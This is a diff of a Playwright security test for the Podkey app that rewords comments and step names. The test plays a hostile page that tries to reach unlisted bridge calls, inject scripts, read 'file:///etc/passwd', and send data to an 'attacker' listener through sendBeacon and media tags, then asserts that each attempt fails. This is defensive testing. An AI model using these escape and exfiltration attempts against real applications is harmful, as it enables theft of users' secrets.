@@ -2,7 +2,7 @@ import { startListener, type Listener } from '../support/listener.ts';
 import { accountOn } from '../support/sample-entries.ts';
 import { expect, test as base } from './fixtures.ts';
 
-/* A page that turned hostile: code that runs in it, with all that the preload exposes, looks for a way out. */
+/* A hostile page: code that runs in it, with all that the preload exposes, looks for a way out. */
 
 const test = base.extend<{ attacker: Listener }>({
   // eslint-disable-next-line no-empty-pattern -- Playwright reads the pattern
@@ -13,11 +13,11 @@ const test = base.extend<{ attacker: Listener }>({
   },
 });
 
-test('a hostile page has nothing but the bridge, and no way out', async ({ podkey, pod, attacker }) => {
+test('a hostile page has only the bridge, and no way out', async ({ podkey, pod, attacker }) => {
   const { app, page, accounts, values } = podkey;
   const at = new URL(page.url()).origin;
 
-  await test.step('as long as it is Podkey’s own it breaks none of its rules', async () => {
+  await test.step('Podkey’s own page breaks none of its rules', async () => {
     await page.addInitScript(() => {
       const broken: string[] = [];
       Object.assign(globalThis, { broken });
@@ -36,7 +36,7 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
     expect(await page.evaluate(() => Object.keys(window.podkey))).toEqual(['invoke', 'on']);
   });
 
-  await test.step('it can neither call nor listen to what the contract does not name', async () => {
+  await test.step('it can neither call nor listen to anything outside the contract', async () => {
     const names = ['accounts.secrets', 'toString', '__proto__', 'constructor', 'shell.openExternal', ''];
     const answered = await page.evaluate(async (all) => {
       const tried = all.flatMap((name) => [
@@ -49,8 +49,8 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
     expect(answered).toEqual([]);
   });
 
-  await test.step('it runs no script but Podkey’s own', async () => {
-    // Making functions of text is not tried: what a test evaluates in the page may, whatever the page's policy says.
+  await test.step('it runs only Podkey’s scripts', async () => {
+    // Code from strings is not tried: a test's evaluate may run it despite the page's policy.
     const ran = await page.evaluate(async () => {
       const injected = 'globalThis.injected = true';
       const tries: (() => unknown)[] = [
@@ -73,7 +73,7 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
     expect(ran).toBe(false);
   });
 
-  await test.step('it reads no file, neither of the system nor beside its own', async () => {
+  await test.step('it reads no file, neither the system’s nor Podkey’s', async () => {
     const read = await page.evaluate(async () => {
       const places = [
         'file:///etc/passwd',
@@ -105,7 +105,7 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
           const made = Object.assign(document.createElement(name), set);
           made.addEventListener('error', () => reject(new Error('refused')));
           document.body.append(made);
-          // What says nothing has had its turn when the next picture of Podkey's has.
+          // An element that reports no error has had its chance by the second frame.
           requestAnimationFrame(() => requestAnimationFrame(() => reject(new Error('silent'))));
         });
       const tried: (() => unknown)[] = [
@@ -130,7 +130,7 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
             source.onopen = resolve;
             source.onerror = reject;
           }),
-        // It says yes to whatever it takes, and sends it or not.
+        // It returns true for anything it accepts, whether or not it sends it.
         () => Promise.reject(new Error(String(navigator.sendBeacon(url, 'everything')))),
         () => element('img', { src: url }),
         () => element('video', { src: url }),
@@ -163,7 +163,7 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
     expect(reached).toEqual([]);
   });
 
-  await test.step('it opens no window and goes nowhere', async () => {
+  await test.step('it can’t open a window or navigate', async () => {
     await page.evaluate((host) => {
       const places = [`http://${host}/`, 'file:///etc/passwd', 'mailto:a@b.example', 'podkey://open'];
       for (const place of places) {
@@ -184,14 +184,14 @@ test('a hostile page has nothing but the bridge, and no way out', async ({ podke
     expect(bridges.filter((kind) => kind !== 'undefined')).toEqual([]);
   });
 
-  await test.step('and whoever sits before it works on as before', async () => {
+  await test.step('and the person continues to work as before', async () => {
     await accounts.addAccount.click();
     await accounts.fill(accountOn(pod));
     await accounts.save.click();
     await expect(values.paste).toBeVisible();
     expect(new URL(page.url()).origin).toBe(at);
     expect(app.windows()).toHaveLength(1);
-    // A connection may be made ahead (docs/security.md), over which nothing is said.
+    // A connection may be opened in advance (docs/security.md), but nothing is sent over it.
     expect(attacker.heard.join('')).toBe('');
   });
 });
